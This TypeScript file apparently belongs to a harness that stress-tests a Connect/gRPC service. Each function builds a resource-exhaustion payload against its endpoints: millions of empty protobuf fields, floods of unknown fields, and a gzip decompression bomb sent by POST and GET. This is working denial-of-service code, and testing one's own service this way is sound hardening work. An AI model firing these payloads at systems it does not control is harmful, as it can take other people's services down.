import { gzipSync } from "node:zlib";
import { envelope } from "../http2-frames.ts";
import { methods } from "../methods.ts";
import { getHttp1, type Post, postHttp1, postHttp2 } from "../post.ts";
import { type Attack, tally } from "../target.ts";

const symbolsTag = 0x0a;
const subscribeTag = 0x12;
const commandsTag = 0x42;
const unknownVarintTag = 0x78;

/** The number of two-byte fields that fit in a WatchQuotesRequest; with gzip, half of them. */
const fitting = 1_000_000;
const fittingGzip = 500_000;

/** Lists of empty symbols, in the request and in a command, as protobuf, as JSON and with gzip. */
export const emptySymbols: Attack = async (target) => {
  const symbols = pairs(symbolsTag, 2_000_000);
  const json = Buffer.from(`{"symbols":[${'"",'.repeat(1_300_000)}""]}`);
  const posts = [proto(symbols), proto(inCommand(symbols)), gzip(symbols), { ...proto(json), contentType: jsonStream }];
  return tally((await Promise.all(posts.map((post) => postHttp2(target, post)))).flat());
};

/** The same within the size limit of the method. */
export const fittingSymbols: Attack = async (target) => {
  const symbols = pairs(symbolsTag, fitting);
  const json = Buffer.from(`{"symbols":[${'"",'.repeat(600_000)}""]}`);
  const small = pairs(symbolsTag, fittingGzip);
  const posts = [proto(symbols), proto(inCommand(symbols)), gzip(small), { ...proto(json), contentType: jsonStream }];
  return tally((await Promise.all(posts.map((post) => postHttp2(target, post)))).flat());
};

/** A packed list of 4,000,000 states, which gzip compresses to a few KB, by POST and by GET. */
export const uploadStates: Attack = async (target) => {
  const states = Buffer.concat([Buffer.from([symbolsTag]), varint(4_000_000), Buffer.alloc(4_000_000)]);
  const body = gzipSync(states);
  const query = `connect=v1&encoding=proto&compression=gzip&base64=1&message=${body.toString("base64url")}`;
  const post = { path: methods.listUploads, contentType: "application/proto", body };
  return tally([
    ...(await postHttp1(target, { ...post, headers: { "content-encoding": "gzip" } })),
    await getHttp1(target, `${methods.listUploads}?${query}`),
  ]);
};

/** 60 requests with unknown fields. */
export const unknownFields: Attack = async (target) => tally(await postHttp2(target, gzip(unknown(2_000_000)), 60));

/** The same within the size limit of the method. */
export const fittingUnknownFields: Attack = async (target) =>
  tally(await postHttp2(target, gzip(unknown(fittingGzip)), 60));

const jsonStream = "application/connect+json";

function proto(message: Uint8Array): Post {
  return { path: methods.watchQuotes, contentType: "application/connect+proto", body: envelope(0, message) };
}

function gzip(message: Uint8Array): Post {
  const headers = { "connect-content-encoding": "gzip" };
  return { ...proto(message), body: envelope(1, gzipSync(message)), headers };
}

function unknown(count: number): Buffer {
  return Buffer.concat([Buffer.from([symbolsTag, 1, 0x41]), pairs(unknownVarintTag, count)]);
}

function inCommand(symbols: Buffer): Buffer {
  const subscribe = Buffer.concat([Buffer.from([subscribeTag]), varint(symbols.length), symbols]);
  const command = Buffer.concat([Buffer.from([commandsTag]), varint(subscribe.length), subscribe]);
  return Buffer.concat([Buffer.from([symbolsTag, 1, 0x41]), command]);
}

/** Fields of two bytes: a tag, and the length or the number 0. */
function pairs(tag: number, count: number): Buffer {
  return Buffer.alloc(2 * count, Buffer.from([tag, 0]));
}

function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let left = value; ; left = Math.floor(left / 128)) {
    if (left < 128) return Buffer.from([...bytes, left]);
    bytes.push((left % 128) + 128);
  }
}
